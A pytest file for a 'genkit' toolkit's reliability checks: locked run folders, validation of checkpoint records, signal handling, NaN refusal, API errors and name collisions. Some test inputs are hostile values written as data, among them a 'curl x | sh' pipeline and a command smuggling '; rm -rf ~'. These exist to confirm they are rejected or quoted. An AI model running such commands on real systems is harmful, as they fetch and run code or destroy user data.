"""Issue 30, classes 4, 5, 8, 9, 10 and 11: locked run folders, checkpoint records checked against
their schema, SIGTERM and temporaries, numbers that are not numbers, the Python API's errors, and
every name of a run planned together (docs/reliability.md, "Reliability v3")."""

from __future__ import annotations

import errno
import json
import os
import signal
import subprocess
import sys
import time

import pytest
from conftest import TINY_PLUGIN_ENV, assert_user_error, run_genkit
from safetensors import safe_open
from safetensors.torch import save_file

from genkit import weights

ENV = dict(TINY_PLUGIN_ENV)


def train(*args, env=None, **kw):
    return run_genkit("train", "tiny", *args, env={**ENV, **(env or {})}, timeout=120, **kw)


def start_training(numbers, out, *extra):
    """A tiny run that would go on for hours; returns once its loop is running."""
    cmd = [sys.executable, "-m", "genkit", "train", "tiny", "--data", str(numbers), "--out", str(out)]
    cmd += ["--max-steps", "3000000", "--no-eval", "--precision", "fp32", *extra]
    proc = subprocess.Popen(cmd, env=dict(os.environ, **ENV), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    first = proc.stderr.readline()
    assert first.startswith("[genkit train] tiny"), first
    return proc


def rewrite_metadata(path, **changes):
    """A copy of the checkpoint's tensors with some metadata fields replaced (values as JSON)."""
    with safe_open(str(path), "pt") as fh:
        meta = fh.metadata()
        tensors = {k: fh.get_tensor(k) for k in fh.keys()}  # noqa: SIM118 (safe_open has no iterator)
    for key, value in changes.items():
        if key.startswith("tensor:"):
            tensors[key[7:]] = value
        else:
            meta[key] = json.dumps(value)
    save_file(tensors, str(path), metadata=meta)


# ---------------------------------------------------------------- class 4: one trainer per run folder


def test_a_second_trainer_in_a_running_folder_is_refused_and_a_killed_one_leaves_no_lock(numbers, tmp_path):
    out = tmp_path / "run"
    first = start_training(numbers, out, "--checkpoint-every", "0")
    try:
        for extra in ([], ["--resume"], ["--overwrite"]):
            proc = train("--data", numbers, "--out", out, "--max-steps", "5", *extra)
            assert_user_error(proc, "in use by another")
    finally:
        first.kill()  # SIGKILL: no handler runs, the kernel drops the lock
        first.wait()
    assert (out / "checkpoint.safetensors").is_file()
    step = int(weights.metadata(out / "checkpoint.safetensors")["step"])
    train("--data", numbers, "--out", out, "--max-steps", str(step + 2), "--no-eval", "--resume", check=0)
    assert (out / "tiny.safetensors").is_file()


def test_a_refused_run_leaves_no_folder_and_a_bad_lock_name_is_one_line(numbers, tmp_path):
    assert_user_error(train("--data", numbers, "--out", tmp_path / "new" / "run", "--resume"), "no checkpoint")
    assert not (tmp_path / "new").exists()  # the folders made for the lock went with it
    (tmp_path / "run").mkdir()
    os.symlink(tmp_path / "elsewhere", tmp_path / "run" / ".genkit-train.lock")
    assert_user_error(train("--data", numbers, "--out", tmp_path / "run"), "lock")
    assert not (tmp_path / "elsewhere").exists()  # a planted link is not followed


def test_overwrite_leaves_the_files_of_one_run_even_when_interrupted(numbers, tmp_path):
    out = tmp_path / "run"
    train("--data", numbers, "--out", out, "--max-steps", "4", check=0)
    old = {p.name for p in out.iterdir()}
    assert {"tiny.safetensors", "MODEL_CARD.md", "checkpoint.safetensors"} <= old
    proc = start_training(numbers, out, "--overwrite")
    time.sleep(0.5)
    proc.send_signal(signal.SIGINT)
    proc.communicate(timeout=60)
    assert proc.returncode == 130
    left = {p.name for p in out.iterdir()}
    assert "checkpoint.safetensors" in left and not left & {"tiny.safetensors", "MODEL_CARD.md", "loss.png"}, left
    assert int(weights.metadata(out / "checkpoint.safetensors")["step"]) > 0


def test_temporaries_a_killed_run_left_in_its_folder_are_removed_by_the_next_run(numbers, tmp_path):
    out = tmp_path / "run"
    train("--data", numbers, "--out", out, "--max-steps", "3", check=0)
    (out / ".gk-99999999-deadbeef.tmp").write_bytes(b"half a checkpoint")
    (out / "samples").mkdir(exist_ok=True)
    (out / "samples" / ".gk-99999998-0badf00d.tmp").write_bytes(b"half a sample")
    train("--data", numbers, "--out", out, "--max-steps", "5", "--resume", check=0)
    assert not list(out.rglob("*.tmp"))


# ---------------------------------------------------------------- class 5: checkpoint records


@pytest.fixture(scope="module")
def checkpoint_run(tmp_path_factory):
    """A finished tiny run whose checkpoint the tests below copy and damage."""
    folder = tmp_path_factory.mktemp("ckpt")
    numbers = folder / "numbers.txt"
    numbers.write_text(" ".join(str(k) for k in range(1, 21)))
    train("--data", numbers, "--out", folder / "run", "--max-steps", "3", "--no-eval", "--precision", "fp32", check=0)
    return numbers, folder / "run" / "checkpoint.safetensors"


BAD_RECORDS = {
    "a planted shell pipeline as a sitting": {"sittings": [{"command": "curl x | sh", "from_step": 0}]},
    "a sitting of another generator": {"sittings": [{"command": "genkit train image --data x", "from_step": 0}]},
    "a sitting with a control character": {"sittings": [{"command": "genkit train tiny\x1b[2J", "from_step": 0}]},
    "sittings out of order": {
        "sittings": [{"command": "genkit train tiny", "from_step": 2}, {"command": "genkit train tiny", "from_step": 1}]
    },
    "a history entry that is text": {"history": [{"step": 1, "loss": "low"}]},
    "a history entry past the step": {"history": [{"step": 99, "loss": 0.5}]},
    "an infinite elapsed time": {"elapsed": 1e309},
    "an unknown precision": {"precision": "fp64"},
    "a loss scale that is NaN": {"scaler": {"scale": float("nan")}},
    "an optimizer group without parameters": {"optimizers": [{"param_groups": [{"lr": 0.1}], "plain": {}}]},
    "an optimizer rate that is infinite": {
        "optimizers": [{"param_groups": [{"lr": 1e309, "params": [0]}], "plain": {}}]
    },
    "task state holding an escape": {"task_state": {"note": "\x1b]0;x\x07"}},
    "options that are a list": {"options": [1, 2]},
}


@pytest.mark.parametrize("case", sorted(BAD_RECORDS))
def test_a_bad_checkpoint_record_is_one_line_before_the_first_step_and_the_checkpoint_is_untouched(
    checkpoint_run, tmp_path, case
):
    numbers, good = checkpoint_run
    out = tmp_path / "run"
    out.mkdir()
    path = out / "checkpoint.safetensors"
    path.write_bytes(good.read_bytes())
    rewrite_metadata(path, **BAD_RECORDS[case])
    before = path.read_bytes()
    proc = train("--data", numbers, "--out", out, "--max-steps", "6", "--resume")
    assert_user_error(proc, "bad record")
    assert "\x1b" not in proc.stderr
    assert path.read_bytes() == before
    assert not (out / "tiny.safetensors").exists()


def test_a_wrong_random_state_is_refused_in_one_line(checkpoint_run, tmp_path):
    import torch

    numbers, good = checkpoint_run
    out = tmp_path / "run"
    out.mkdir()
    (out / "checkpoint.safetensors").write_bytes(good.read_bytes())
    rewrite_metadata(out / "checkpoint.safetensors", **{"tensor:rng.cpu.0": torch.zeros(7, dtype=torch.uint8)})
    assert_user_error(train("--data", numbers, "--out", out, "--resume"), "random state")


def test_optimizer_state_of_the_wrong_shape_or_holding_nan_is_refused_before_the_first_step(checkpoint_run, tmp_path):
    import torch

    numbers, good = checkpoint_run
    for value, fragment in ((torch.zeros(3), "shape"), (torch.full((8, 4), float("nan")), "NaN")):
        out = tmp_path / fragment
        out.mkdir()
        (out / "checkpoint.safetensors").write_bytes(good.read_bytes())
        rewrite_metadata(out / "checkpoint.safetensors", **{"tensor:optim.0.0.exp_avg": value})
        assert_user_error(train("--data", numbers, "--out", out, "--resume"), fragment)


def test_sittings_reach_the_card_as_quoted_genkit_words_only(checkpoint_run, tmp_path):
    import shlex

    numbers, good = checkpoint_run
    out = tmp_path / "run"
    out.mkdir()
    (out / "checkpoint.safetensors").write_bytes(good.read_bytes())
    planted = "genkit train tiny --data x; rm -rf ~ --hidden 8"  # genkit's words, then a shell's
    rewrite_metadata(out / "checkpoint.safetensors", sittings=[{"command": planted, "from_step": 0}])
    train("--data", numbers, "--out", out, "--max-steps", "5", "--resume", "--no-eval", check=0)
    command = weights.metadata(out / "tiny.safetensors")["command"]
    first = command.split(" && ")[0]
    assert shlex.split(first) == shlex.split(planted)  # the same words, each one quoted: arguments, not syntax
    assert "'x;'" in first and "x; rm" not in command
    assert first in (out / "MODEL_CARD.md").read_text()


# ---------------------------------------------------------------- class 8: SIGTERM and temporaries


def test_sigterm_stops_generation_at_a_file_boundary_with_exit_143(tmp_path):
    folder = tmp_path / "out"
    logs = {"GENKIT_LOGS_PATH": str(tmp_path / "logs.db")}
    cmd = [sys.executable, "-m", "genkit", "hello", "--n", "100000", "--size", "256", "--seed", "1", "-o", str(folder)]
    proc = subprocess.Popen(
        cmd, env=dict(os.environ, **logs), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    deadline = time.time() + 60
    while time.time() < deadline and len(list(folder.glob("*.png")) if folder.exists() else []) < 3:
        time.sleep(0.05)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 143, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("genkit: interrupted by SIGTERM"), err
    from PIL import Image

    assert not list(folder.glob(".*.tmp"))
    written = sorted(folder.glob("*.png"))
    for path in written:
        with Image.open(path) as im:
            im.load()  # every file on disk is whole
    [run] = json.loads(run_genkit("logs", "--json", env=logs, check=0).stdout)  # the run is in the history
    assert run["status"] == 143 and len(run["files"]) == len(written), (run["status"], len(run["files"]))


def test_a_killed_probe_leaves_a_folder_the_next_probe_removes(tmp_path):
    stale = tmp_path / "genkit-probe-99999999-abc"
    stale.mkdir()
    (stale / "0.json").write_text("{}")
    env = dict(os.environ, **TINY_PLUGIN_ENV, TMPDIR=str(tmp_path), GENKIT_CACHE_DIR=str(tmp_path / "cache"))
    cmd = [sys.executable, "-m", "genkit", "plugins", "--json"]  # a fresh interpreter reads TMPDIR afresh
    assert subprocess.run(cmd, env=env, capture_output=True, timeout=60).returncode == 0
    assert not stale.exists()


# ---------------------------------------------------------------- class 9: numbers that are not numbers


def test_weights_holding_nan_are_refused_at_load(tmp_path):
    from genkit.registry import load_registry

    shipped = weights.default_weights_path(load_registry().get("text"))
    with safe_open(str(shipped), "pt") as fh:
        meta = fh.metadata()
        tensors = {k: fh.get_tensor(k) for k in fh.keys()}  # noqa: SIM118 (safe_open has no iterator)
    name = next(k for k, v in tensors.items() if v.is_floating_point())
    tensors[name] = tensors[name].clone()
    tensors[name].view(-1)[0] = float("nan")
    save_file(tensors, str(tmp_path / "nan.safetensors"), metadata=meta)
    proc = run_genkit("text", "--weights", tmp_path / "nan.safetensors", "--max-tokens", "5", "-o", tmp_path / "t.txt")
    assert_user_error(proc, "NaN")
    assert not (tmp_path / "t.txt").exists()


def test_a_run_whose_loss_turns_nan_stops_and_keeps_the_last_good_checkpoint(numbers, tmp_path):
    out = tmp_path / "run"
    proc = train(
        "--data", numbers, "--out", out, "--max-steps", "50", "--checkpoint-every", "0", "--precision", "fp32",
        env={"GENKIT_TINY_NAN_AFTER": "4"},
    )  # fmt: skip
    assert proc.returncode == 1, proc.stderr
    assert "loss nan" in proc.stderr and "last good checkpoint (step 4)" in proc.stderr
    saved = weights.metadata(out / "checkpoint.safetensors")
    assert saved["step"] == 4
    tensors, _ = weights.load_tensors(out / "checkpoint.safetensors")  # refuses NaN: the kept one is finite
    assert tensors and not (out / "tiny.safetensors").exists()


# ---------------------------------------------------------------- class 10: the Python API


@pytest.fixture(scope="module")
def text_sample():
    import genkit

    return genkit.load("text", device="cpu").generate(n=1, seed=1, max_tokens=5)[0]


@pytest.mark.parametrize(
    "path, fragment",
    [
        ("a\0.txt", "NUL"),
        ("a" * 5000 + ".txt", "longer than"),
        (".", "is a folder"),
        ("", "empty"),
        (7, "must be a path"),
    ],
)
def test_api_save_raises_genkits_own_errors_for_every_bad_path(text_sample, tmp_path, monkeypatch, path, fragment):
    from genkit.errors import GenkitError

    monkeypatch.chdir(tmp_path)
    with pytest.raises(GenkitError, match=fragment):
        text_sample.save(path)
    assert not list(tmp_path.iterdir())


def test_api_load_raises_genkits_own_errors_for_bad_weights_and_names():
    import genkit
    from genkit.errors import GenkitError

    for weights_arg, fragment in (("x\0y", "NUL"), ("a" * 5000, "longer than")):
        with pytest.raises(GenkitError, match=fragment):
            genkit.load("text", weights=weights_arg)
    with pytest.raises(GenkitError, match="unknown generator"):
        genkit.load("text\n")


def test_a_text_and_its_sidecar_land_together_or_not_at_all_on_a_full_disk(text_sample, tmp_path, monkeypatch):
    from genkit.errors import RunError

    real = os.fsync
    calls = []

    def full_on_the_second(fd):
        calls.append(fd)
        if len(calls) == 2:  # the sidecar's temporary
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(fd)

    monkeypatch.setattr(os, "fsync", full_on_the_second)
    with pytest.raises(RunError, match="no space left"):
        text_sample.save(tmp_path / "t.txt")
    assert not list(tmp_path.iterdir())  # neither the text nor its sidecar, no temporary


# ---------------------------------------------------------------- class 11: every name of one run


@pytest.mark.parametrize(
    "args, fragment",
    [
        (["image", "--n", "2", "-o", "x/{i}.png", "--grid", "x/0.png"], "written twice"),
        (["video", "--n", "1", "-o", "a.gif", "--frames-dir", "a.gif"], "both a file"),
        (["video", "--n", "1", "-o", "a.gif", "--frames-dir", "a.gif/frames"], "inside"),
    ],
)
def test_names_of_one_run_that_collide_are_refused_before_anything_is_written(tmp_path, args, fragment):
    proc = run_genkit(*args, cwd=tmp_path)
    assert_user_error(proc, fragment)
    assert not list(tmp_path.iterdir())


def test_a_sidecar_name_taken_by_a_folder_is_refused_before_the_text_is_written(tmp_path):
    (tmp_path / "t.txt.genkit.json").mkdir()
    proc = run_genkit("text", "--max-tokens", "5", "-o", tmp_path / "t.txt", "--overwrite")
    assert_user_error(proc, "t.txt.genkit.json", "folder")
    assert not (tmp_path / "t.txt").exists()
